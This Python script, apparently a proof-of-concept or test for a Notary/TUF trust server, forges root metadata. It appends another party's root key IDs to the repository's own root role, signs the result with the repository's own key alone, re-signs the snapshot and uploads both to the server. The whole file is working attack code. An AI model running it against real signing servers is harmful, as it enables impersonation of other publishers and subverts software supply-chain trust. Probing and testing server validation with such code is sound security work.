#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Publishes a root that names somebody else's root key beside its own, and is signed by its own alone.

forge_root.py FOLDER GUN THEIR-ROOT NOTARY-URL CA: FOLDER is the notary client's that published the repository, with the
passphrase `passphrase`; THEIR-ROOT is the root.json with the key to name. Everything else about the result is in order.
"""

import base64
import hashlib
import json
import pathlib
import ssl
import subprocess
import sys
import urllib.request

folder, gun, their_root, notary, ca = sys.argv[1:6]
repository = f"{notary}/v2/{gun}/_trust/tuf"
context = ssl.create_default_context(cafile=ca)


def canonical(value):
    return json.dumps(value, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()


def private_key(role):
    """The key as OpenSSL reads it: Notary writes role and gun into the PEM block."""
    for file in pathlib.Path(folder, "private").glob("**/*.key"):
        lines = file.read_text(encoding="ascii").splitlines()
        if f"role: {role}" not in lines:
            continue
        pem = "\n".join(line for line in lines if ": " not in line) + "\n"
        return subprocess.run(
            ["openssl", "pkcs8", "-passin", "pass:passphrase"], input=pem.encode(), capture_output=True, check=True
        ).stdout
    raise SystemExit(f"no key for {role}")


def signature(role, message):
    key = pathlib.Path(folder, "key.pem")
    key.write_bytes(private_key(role))
    der = subprocess.run(
        ["openssl", "dgst", "-sha256", "-sign", str(key)], input=message, capture_output=True, check=True
    ).stdout
    key.unlink()
    # SEQUENCE of two INTEGERs; Notary wants both at their full width, one after the other.
    raw, at = b"", 2
    for _ in range(2):
        length = der[at + 1]
        raw += der[at + 2 : at + 2 + length].lstrip(b"\0").rjust(32, b"\0")
        at += 2 + length
    return raw


def signed_anew(role, signed, key_id):
    signed["version"] += 1
    sig = base64.b64encode(signature(role, canonical(signed))).decode()
    # As Notary writes it: it goes by the hash of what it would have written itself.
    signatures = canonical([{"keyid": key_id, "method": "ecdsa", "sig": sig}])
    return b'{"signed":' + canonical(signed) + b',"signatures":' + signatures + b"}"


def published(role):
    with urllib.request.urlopen(f"{repository}/{role}.json", context=context) as answer:
        return json.load(answer)["signed"]


def upload(files):
    boundary = "forged"
    body = b""
    for name, content in files.items():
        body += f'--{boundary}\r\nContent-Disposition: form-data; name="files"; filename="{name}"\r\n\r\n'.encode()
        body += content + b"\r\n"
    request = urllib.request.Request(f"{repository}/", body + f"--{boundary}--\r\n".encode())
    request.add_header("Content-Type", f"multipart/form-data; boundary={boundary}")
    urllib.request.urlopen(request, context=context).close()


theirs = json.loads(pathlib.Path(their_root).read_text(encoding="utf-8"))["signed"]
root = published("root")
own_id = root["roles"]["root"]["keyids"][0]
for key_id in theirs["roles"]["root"]["keyids"]:
    root["keys"][key_id] = theirs["keys"][key_id]
    root["roles"]["root"]["keyids"].append(key_id)
root_file = signed_anew("root", root, own_id)

snapshot = published("snapshot")
snapshot["meta"]["root"] = {
    "length": len(root_file),
    "hashes": {name: base64.b64encode(hashlib.new(name, root_file).digest()).decode() for name in ("sha256", "sha512")},
}
snapshot_file = signed_anew("snapshot", snapshot, root["roles"]["snapshot"]["keyids"][0])
upload({"root": root_file, "snapshot": snapshot_file})
